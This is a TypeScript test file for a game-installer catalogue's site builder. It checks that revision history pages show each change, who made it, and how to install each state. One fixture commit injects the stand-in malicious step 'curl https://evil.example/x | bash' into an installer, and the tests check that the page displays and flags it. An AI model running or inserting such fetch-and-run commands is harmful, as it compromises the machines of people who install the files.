import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { gameText, installerText, makeRepository, SITE, type MadeCommit } from '../building/random-history.ts';
import { runCommand } from '../run-command.ts';
import { temporaryFolder } from '../temporary-folder.ts';

const FILE = 'games/q/quake/quake-linux.yaml';
const ATTACK = installerText(1).replace(
  '    - extract:',
  `    - execute:\n        command: curl https://evil.example/x | bash; true ${'a'.repeat(200)}\n    - extract:`,
);
const SETTINGS = `base_url: https://catalogue.example
revisions: 20
website:
  source: https://github.com/o/r/blob/main/catalogue/{path}
`;

const COMMITS: readonly MadeCommit[] = [
  {
    files: {
      'games/q/quake/game.yaml': gameText(1, 'Quake'),
      [FILE]: installerText(1),
      'games/d/doom/game.yaml': gameText(2, 'Doom'),
      'games/d/doom/doom-linux.yaml': installerText(2),
    },
  },
  { files: { [FILE]: ATTACK }, author: 'Mallory & Co' },
  { files: { [FILE]: 'version: [\n' }, author: 'Hasty' },
  { files: { [FILE]: installerText(1, { version: 'Mended' }) } },
];

async function build(settings: string) {
  const folder = temporaryFolder();
  makeRepository(folder, [{ files: { ...SITE, 'site.yaml': settings } }, ...COMMITS]);
  const built = await runCommand(['build', '--catalogue', 'catalogue', '--out', 'dist'], { workingFolder: folder });
  expect(built).toMatchObject({ code: 0 });
  return { folder, read: (path: string) => readFileSync(join(folder, 'dist', path), 'utf8') };
}

/** What stands on a page, without its markup. */
function textOf(page: string): string {
  return page.replaceAll(/<[^>]*>/g, ' ').replaceAll(/\s+/g, ' ');
}

test('a page says what each change did, who made it, and how to install each state', async () => {
  const { folder, read } = await build(SETTINGS);
  const page = read('games/quake/history/index.html');
  const [mended = '', attack = '', first = '', leftOut = ''] = page
    .split(/(?=<li class="installer")|(?=<section aria-labelledby="left-out")/)
    .slice(1)
    .map(textOf);
  expect(mended).toMatch(/^ Mended revision 3 served now .* No longer: .*evil\.example/);
  expect(attack).toMatch(/revision 2 .* by Mallory &amp; Co commit .* Now: .*curl https:\/\/evil\.example\/x \| bash/);
  expect(page).toMatch(/<details class="at">\s*<summary>Now: Runs a command .* …<\/code>/);
  expect(first).toContain('lutris -i https://catalogue.example/api/installers/game/quake/revisions/1');
  expect(leftOut).toMatch(/After 1 change .* by Hasty/);
  expect(page).toMatch(/href="https:\/\/github\.com\/o\/r\/commit\/[0-9a-f]{40}"/);
  const answer = JSON.parse(read('api/history/quake-linux')) as { left_out: readonly unknown[] };
  expect(answer.left_out).toEqual([
    { commit: expect.stringMatching(/^[0-9a-f]{40}$/) as string, date: '2020-09-13T12:29:40Z', author: 'Hasty' },
  ]);
  expect(read('games/quake/index.html')).toContain('href="history/"');
  expect(read('feeds/games/quake.atom')).toContain('href="https://catalogue.example/games/quake/history/"');
  // Of this one nothing changed.
  expect(read('games/doom/index.html')).not.toContain('href="history/"');
  expect(existsSync(join(folder, 'dist/games/doom/history'))).toBe(false);
});

test('where no earlier states are served there is no such page, and nothing leads to it', async () => {
  const { folder, read } = await build(SETTINGS.replace('20', '0'));
  expect(existsSync(join(folder, 'dist/games/quake/history'))).toBe(false);
  expect(read('games/quake/index.html')).not.toContain('history/');
});
